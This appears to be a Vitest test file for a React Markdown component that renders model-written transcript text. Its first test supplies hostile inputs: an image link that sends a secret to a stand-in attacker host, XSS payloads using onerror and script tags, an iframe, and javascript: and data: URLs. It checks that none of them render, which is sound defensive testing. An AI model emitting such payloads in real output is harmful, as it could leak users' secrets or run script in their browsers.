import { fireEvent, render, screen } from "@testing-library/react";
import { expect, it, vi } from "vitest";
import { TooltipProvider } from "@/components/tooltip";
import { TranscriptActionsContext } from "./actions";
import { Markdown } from "./markdown";

function show(text: string) {
  const openLink = vi.fn();
  const actions = { openLink, copy: vi.fn(), loadOutput: vi.fn(), loadImage: vi.fn(), undoCompaction: vi.fn(), openSession: vi.fn() };
  const { container } = render(
    <TooltipProvider>
      <TranscriptActionsContext value={actions}>
        <Markdown text={text} />
      </TranscriptActionsContext>
    </TooltipProvider>,
  );
  return { container, openLink, copy: actions.copy };
}

it("never makes a picture, a frame, a script or a style of what a model wrote", () => {
  const { container } = show(
    [
      "![x](https://evil.example/?d=SECRET)",
      "![y][ref]\n\n[ref]: https://evil.example/y",
      "<img src=https://evil.example/z onerror=alert(1)><script>alert(1)</script><style>*{}</style>",
      "<iframe src=https://evil.example></iframe>",
      "[a](javascript:alert(1)) [b](data:text/html,x)",
    ].join("\n\n"),
  );
  expect(container.querySelectorAll("img, iframe, script, style, svg, object")).toHaveLength(0);
  const addresses = [...container.querySelectorAll("a")].map((a) => new URL(a.href).protocol);
  expect(addresses.every((protocol) => protocol === "https:")).toBe(true);
  expect(container.textContent).toContain("Image not loaded: x");
});

it("hands a link on instead of following it", () => {
  const { openLink } = show("see [the docs](https://example.com/a)");
  fireEvent.click(screen.getByRole("link", { name: "the docs" }));
  expect(openLink).toHaveBeenCalledWith("https://example.com/a");
});

it("lays each block out by its own script and pins code left to right", () => {
  const { container } = show("شغل الأمر `make check` الآن\n\n```\nx\n```\n\nEnglish");
  expect([...container.querySelectorAll("p")].map((p) => p.dir)).toEqual(["auto", "auto"]);
  expect(container.querySelector("code")?.dir).toBe("ltr");
  expect(container.querySelector("figure")?.dir).toBe("ltr");
});

it("shows tables and task lists", () => {
  show("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] open");
  expect(screen.getAllByRole("cell").map((cell) => cell.textContent)).toEqual(["a", "b", "1", "2"]);
  expect(screen.getAllByRole("checkbox").map((box) => (box as HTMLInputElement).checked)).toEqual([true, false]);
});

it("folds a code block of very many lines, and copies all of it", () => {
  const code = Array.from({ length: 50_000 }, (_, line) => `line ${line}`).join("\n");
  const { container, copy } = show(`\`\`\`\n${code}\n\`\`\``);
  expect(container.querySelector("code")?.textContent.split("\n")).toHaveLength(400);
  expect(screen.getByRole("button", { name: "Show 49,600 lines more" })).toBeVisible();
  fireEvent.click(screen.getByRole("button", { name: "Copy code" }));
  expect(copy).toHaveBeenCalledWith(code);
});

it("folds one line of two million characters, and shows the rest on demand", () => {
  const { container } = show("x".repeat(2_000_000));
  expect(container.textContent.length).toBeLessThan(10_000);
  fireEvent.click(screen.getByRole("button", { name: "Show 1,991,808 characters more" }));
  expect(container.textContent).toHaveLength(2_000_000);
});
